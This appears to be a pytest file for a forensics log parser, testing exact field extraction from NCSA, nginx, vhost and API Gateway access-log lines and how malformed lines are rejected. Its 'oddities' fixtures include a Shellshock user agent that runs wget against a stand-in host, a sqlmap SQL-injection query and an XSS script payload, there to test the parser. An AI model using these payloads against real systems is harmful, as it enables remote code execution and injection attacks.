"""The NCSA/nginx family: exact field values per format, the oddities real logs contain, rejects.

Every expected value below was read off the raw line by hand.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from forensics import formats
from forensics.formats.linefmt import LineFormat
from tests.formathelpers import event_values, ingest_lines, parse_lines, parse_one, utc
from tests.test_proxy import PROXY_REPRESENTATIVE

# format -> (a representative line, every non-NULL column it yields)
REPRESENTATIVE: dict[str, tuple[str, dict[str, Any]]] = {
    "common": (
        '127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326',
        {
            "ts": utc(2000, 10, 10, 20, 55, 36),
            "ts_offset_min": -420,
            "client_ip": "127.0.0.1",
            "principal": "frank",
            "method": "GET",
            "path": "/apache_pb.gif",
            "protocol": "HTTP/1.0",
            "status": 200,
            "bytes_sent": 2326,
        },
    ),
    "combined": (
        '127.0.0.1 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif?size=large&x=1 HTTP/1.0" 200 2326 '
        '"http://www.example.com/start.html" "Mozilla/4.08 [en] (Win98; I ;Nav)"',
        {
            "ts": utc(2000, 10, 10, 20, 55, 36),
            "ts_offset_min": -420,
            "client_ip": "127.0.0.1",
            "principal": "frank",
            "method": "GET",
            "path": "/apache_pb.gif",
            "query": "size=large&x=1",
            "protocol": "HTTP/1.0",
            "status": 200,
            "bytes_sent": 2326,
            "referer": "http://www.example.com/start.html",
            "user_agent": "Mozilla/4.08 [en] (Win98; I ;Nav)",
        },
    ),
    "combined_extra": (
        '203.0.113.9 - - [12/Mar/2024:10:00:00 +0000] "GET /api/v2/referrals/51234 HTTP/1.1" 200 1832 "-" '
        '"curl/8.4.0" 0.012 "upstream=10.0.0.7:8080"',
        {
            "ts": utc(2024, 3, 12, 10, 0, 0),
            "ts_offset_min": 0,
            "client_ip": "203.0.113.9",
            "method": "GET",
            "path": "/api/v2/referrals/51234",
            "protocol": "HTTP/1.1",
            "status": 200,
            "bytes_sent": 1832,
            "user_agent": "curl/8.4.0",
            "extra": {"trailing": '0.012 "upstream=10.0.0.7:8080"'},
        },
    ),
    "nginx_main": (
        '10.0.0.5 - - [12/Jul/2024:10:00:00 +0100] "POST /api/v2/auth/login HTTP/1.1" 401 57 '
        '"https://app.example.com/login" "python-requests/2.31.0" "159.65.3.7, 10.0.0.1"',
        {
            "ts": utc(2024, 7, 12, 9, 0, 0),
            "ts_offset_min": 60,
            "client_ip": "10.0.0.5",
            "forwarded_for": "159.65.3.7, 10.0.0.1",
            "method": "POST",
            "path": "/api/v2/auth/login",
            "protocol": "HTTP/1.1",
            "status": 401,
            "bytes_sent": 57,
            "referer": "https://app.example.com/login",
            "user_agent": "python-requests/2.31.0",
        },
    ),
    "vhost_combined": (
        'www.example.com:443 203.0.113.9 - bob [12/Jan/2024:10:00:00 +0000] "POST /login HTTP/1.1" 302 0 '
        '"https://www.example.com/" "curl/8.4.0"',
        {
            "ts": utc(2024, 1, 12, 10, 0, 0),
            "ts_offset_min": 0,
            "client_ip": "203.0.113.9",
            "host": "www.example.com",
            "principal": "bob",
            "method": "POST",
            "path": "/login",
            "protocol": "HTTP/1.1",
            "status": 302,
            "bytes_sent": 0,
            "referer": "https://www.example.com/",
            "user_agent": "curl/8.4.0",
            "extra": {"server_port": "443"},
        },
    ),
    # API Gateway CLF presets (more in tests/test_aws.py)
    "apigw_rest_clf": (
        '203.0.113.9 - AIDAJDPLRKLG7UEXAMPLE [12/Jan/2024:10:00:00 +0000]"GET /referrals/{id} HTTP/1.1" 200 57 '
        "c5d8a3e4-9f1b-4a6e-b0c2-7d3e5f6a8b9c UjV1mGhSIAMEbXw=",
        {
            "ts": utc(2024, 1, 12, 10, 0, 0),
            "ts_offset_min": 0,
            "client_ip": "203.0.113.9",
            "principal": "AIDAJDPLRKLG7UEXAMPLE",
            "method": "GET",
            "path": "/referrals/{id}",
            "protocol": "HTTP/1.1",
            "status": 200,
            "bytes_sent": 57,
            "request_id": "c5d8a3e4-9f1b-4a6e-b0c2-7d3e5f6a8b9c",
            "extra": {"extendedRequestId": "UjV1mGhSIAMEbXw="},
        },
    ),
    "apigw_http_clf": (
        '203.0.113.9 - - [12/Jan/2024:10:00:00 +0000] "GET GET /referrals/{id} HTTP/1.1" 200 57 UjV1mGhSIAMEbXw=',
        {
            "ts": utc(2024, 1, 12, 10, 0, 0),
            "ts_offset_min": 0,
            "client_ip": "203.0.113.9",
            "method": "GET",
            "protocol": "HTTP/1.1",
            "status": 200,
            "bytes_sent": 57,
            "request_id": "UjV1mGhSIAMEbXw=",
            "extra": {"routeKey": "GET /referrals/{id}"},
        },
    ),
}


REPRESENTATIVE.update(PROXY_REPRESENTATIVE)  # traefik_clf, envoy, envoy_istio


def test_every_text_format_has_a_representative_case() -> None:
    text_formats = {n for n, f in formats.REGISTRY.items() if isinstance(f, LineFormat)}
    assert text_formats == set(REPRESENTATIVE)


@pytest.mark.parametrize("name", sorted(REPRESENTATIVE))
def test_representative_line_exact_values(name: str) -> None:
    line, expected = REPRESENTATIVE[name]
    assert event_values(parse_one(name, line)) == expected


@pytest.mark.parametrize("name", sorted(REPRESENTATIVE))
def test_representative_file_is_sniffed_and_ingested(name: str, tmp_path: Path) -> None:
    line, expected = REPRESENTATIVE[name]
    case, report = ingest_lines(tmp_path, f"{name}.log", [line, line])
    (result,) = report.results
    assert (result.format, result.events, result.rejects) == (name, 2, 0)
    ev = case.con.execute("select ts, status, client_ip from events order by line_no").fetchall()
    assert ev == [(expected["ts"], expected["status"], expected.get("client_ip"))] * 2  # envoy logs none


TLS = r"\x16\x03\x01\x00\xF7\x01\x00\x00\xF3\x03\x03\xA5\x1B"
GOOGLEBOT_CUT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html"

# (id, format, line, the columns to check) — oddities real logs contain; all must parse.
ODDITIES: list[tuple[str, str, str, dict[str, Any]]] = [
    (
        "escaped quotes in the request",
        "combined",
        r'198.51.100.4 - - [10/Oct/2000:13:55:36 -0700] "GET /search?q=\"admin\"--+ HTTP/1.1" 200 12 "-" "sqlmap/1.7"',
        {"method": "GET", "path": "/search", "query": r"q=\"admin\"--+", "protocol": "HTTP/1.1", "status": 200,
         "user_agent": "sqlmap/1.7"},
    ),
    (
        "TLS handshake bytes sent to the HTTP port",
        "combined",
        f'198.51.100.4 - - [10/Oct/2000:13:55:36 -0700] "{TLS}" 400 157 "-" "-"',
        {"method": None, "path": None, "protocol": None, "request_raw": TLS, "status": 400, "bytes_sent": 157,
         "user_agent": None, "referer": None, "ts": utc(2000, 10, 10, 20, 55, 36)},
    ),
    (
        'a request of "-"',
        "combined",
        '10.112.81.15 - - [15/Feb/2013:06:00:31 +0000] "-" 400 0 "-" "-"',
        {"method": None, "path": None, "request_raw": "-", "status": 400, "bytes_sent": 0,
         "ts": utc(2013, 2, 15, 6, 0, 31)},
    ),
    (
        "request line without protocol, host name client, - bytes (NASA 1995)",
        "common",
        'www-c3.proxy.aol.com - - [01/Aug/1995:00:00:57 -0400] "GET /cgi-bin/imagemap/countdown70?285,291" 404 -',
        {"client_ip": "www-c3.proxy.aol.com", "method": "GET", "path": "/cgi-bin/imagemap/countdown70",
         "query": "285,291", "protocol": None, "request_raw": None, "status": 404, "bytes_sent": None,
         "ts": utc(1995, 8, 1, 4, 0, 57), "ts_offset_min": -240},
    ),
    (
        "IPv6 client",
        "combined",
        '2001:41d0:8:f69::1 - - [29/Oct/2015:06:47:36 +0100] "GET / HTTP/1.1" 200 20526 "http://niels.basjes.nl/" '
        '"Mozilla/5.0 (Windows NT 6.1)"',
        {"client_ip": "2001:41d0:8:f69::1", "path": "/", "referer": "http://niels.basjes.nl/",
         "ts": utc(2015, 10, 29, 5, 47, 36), "ts_offset_min": 60},
    ),
    (
        "- for bytes (HEAD)",
        "combined",
        '89.170.74.95 - - [17/May/2015:16:05:27 +0000] "HEAD /projects/xdotool/ HTTP/1.1" 200 - "-" '
        '"Mozilla/5.0 (Windows NT 6.1; WOW64; rv:24.0) Gecko/20100101 Firefox/24.0"',
        {"method": "HEAD", "path": "/projects/xdotool/", "bytes_sent": None, "status": 200},
    ),
    (
        "unescaped quotes inside the request",
        "combined",
        '1.2.3.4 - - [25/Apr/2021:06:15:33 +0000] "GET /aaaa.xxxx/SomeText?action=edit&template=<script>alert("text")'
        '</script> HTTP/1.0" 404 1164 "-" "-"',
        {"path": "/aaaa.xxxx/SomeText", "query": 'action=edit&template=<script>alert("text")</script>',
         "protocol": "HTTP/1.0", "status": 404, "bytes_sent": 1164, "user_agent": None},
    ),
    (
        "bare quotes in the user agent (a logger that does not escape them)",
        "combined",
        '198.51.100.66 - - [12/Mar/2024:10:00:00 +0000] "GET /cgi-bin/status HTTP/1.1" 404 12 "-" '
        '"() { :; }; /bin/bash -c "wget http://203.0.113.99/x""',
        {"path": "/cgi-bin/status", "status": 404, "referer": None,
         "user_agent": '() { :; }; /bin/bash -c "wget http://203.0.113.99/x"'},
    ),
    (
        "a truncated user agent (no closing quote)",
        "combined",
        '46.118.127.106 - - [20/May/2015:12:05:17 +0000] "GET /scripts/grok-py-test/configlib.py HTTP/1.1" 200 235 '
        f'"-" "{GOOGLEBOT_CUT}',
        {"path": "/scripts/grok-py-test/configlib.py", "status": 200, "bytes_sent": 235, "referer": None,
         "user_agent": GOOGLEBOT_CUT},
    ),
    (
        "an absolute URL in the request (proxy probe)",
        "combined",
        '222.88.236.235 - - [25/Oct/2015:04:39:09 +0100] "GET http://niels.basj.es/acl_users/require_login?came_from='
        'http%3A//niels.basj.es/join_form HTTP/1.0" 200 11713 "http://niels.basj.es/" "Mozilla/5.0"',
        {"host": "niels.basj.es", "path": "/acl_users/require_login",
         "query": "came_from=http%3A//niels.basj.es/join_form", "protocol": "HTTP/1.0"},
    ),
    (
        "a space inside the path",
        "nginx_main",
        '91.99.72.15 - - [22/Jan/2019:03:56:17 +0330] "GET /product/31893/PR257AT Hair HTTP/1.1" 200 41483 "-" '
        '"Mozilla/5.0" "-"',
        {"path": "/product/31893/PR257AT Hair", "protocol": "HTTP/1.1", "forwarded_for": None,
         "ts": utc(2019, 1, 22, 0, 26, 17), "ts_offset_min": 210},
    ),
    (
        "summer offset (+0100) to UTC",
        "combined",
        '192.0.2.1 - - [12/Jul/2024:10:00:00 +0100] "GET / HTTP/1.1" 200 1 "-" "-"',
        {"ts": utc(2024, 7, 12, 9, 0, 0), "ts_offset_min": 60},
    ),
    (
        "winter offset (+0000) to UTC",
        "combined",
        '192.0.2.1 - - [12/Jan/2024:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "-"',
        {"ts": utc(2024, 1, 12, 10, 0, 0), "ts_offset_min": 0},
    ),
    (
        "negative offset crossing midnight and a year",
        "common",
        '192.0.2.1 - - [31/Dec/2023:23:30:00 -0500] "GET / HTTP/1.1" 200 1',
        {"ts": utc(2024, 1, 1, 4, 30, 0), "ts_offset_min": -300},
    ),
]


@pytest.mark.parametrize(("fmt", "line", "want"), [o[1:] for o in ODDITIES], ids=[o[0] for o in ODDITIES])
def test_real_oddities_parse(fmt: str, line: str, want: dict[str, Any]) -> None:
    row = parse_one(fmt, line)
    assert {k: row[k] for k in want} == want


def test_very_long_url_parses_whole() -> None:
    target = "/download?" + "&".join(f"id{i}={i:05d}" for i in range(2000))  # ~20 kB
    assert len(target) > 20_000
    line = f'203.0.113.7 - - [12/Mar/2024:10:00:00 +0000] "GET {target} HTTP/1.1" 414 0 "-" "curl/8.4.0"'
    row = parse_one("combined", line)
    assert row["path"] == "/download"
    assert row["query"] == target.removeprefix("/download?")
    assert (row["status"], row["user_agent"]) == (414, "curl/8.4.0")


def test_garbage_in_the_middle_goes_to_rejects(tmp_path: Path) -> None:
    good = REPRESENTATIVE["combined"][0]
    lines = [good, good, "GARBAGE \x01 not a log line", good, "", good]
    case, report = ingest_lines(tmp_path, "access.log", lines)
    (result,) = report.results
    assert (result.format, result.lines, result.events, result.rejects) == ("combined", 6, 4, 2)
    assert result.events + result.rejects == result.lines
    rejects = case.con.execute("select line_no, line, reason from rejects order by line_no").fetchall()
    assert rejects == [(3, "GARBAGE \x01 not a log line", "not a combined line"), (5, "", "empty line")]
    src = case.con.execute("select lines, events, rejects from sources").fetchall()
    assert src == [(6, 4, 2)]
    assert [r[0] for r in case.con.execute("select line_no from events order by 1").fetchall()] == [1, 2, 4, 6]


def test_unparseable_time_is_rejected_with_its_reason() -> None:
    rows = parse_lines("common", ['1.2.3.4 - - [31/Foo/2024:10:00:00 +0000] "GET / HTTP/1.1" 200 1'])
    assert [(r["reject_reason"], r["line"]) for r in rows] == [
        ("missing or unparseable timestamp", '1.2.3.4 - - [31/Foo/2024:10:00:00 +0000] "GET / HTTP/1.1" 200 1')
    ]


def test_mixed_common_combined_and_vhost_lines_in_one_file(tmp_path: Path) -> None:
    lines = [
        REPRESENTATIVE["combined"][0],
        REPRESENTATIVE["common"][0],
        REPRESENTATIVE["combined"][0],
        REPRESENTATIVE["vhost_combined"][0],
        REPRESENTATIVE["combined"][0],
    ]
    case, report = ingest_lines(tmp_path, "mixed.log", lines)
    (result,) = report.results
    assert (result.format, result.events, result.rejects) == ("combined", 5, 0)
    got = case.con.execute("select line_no, host, user_agent from events order by line_no").fetchall()
    assert got == [
        (1, None, "Mozilla/4.08 [en] (Win98; I ;Nav)"),
        (2, None, None),
        (3, None, "Mozilla/4.08 [en] (Win98; I ;Nav)"),
        (4, "www.example.com", "curl/8.4.0"),
        (5, None, "Mozilla/4.08 [en] (Win98; I ;Nav)"),
    ]
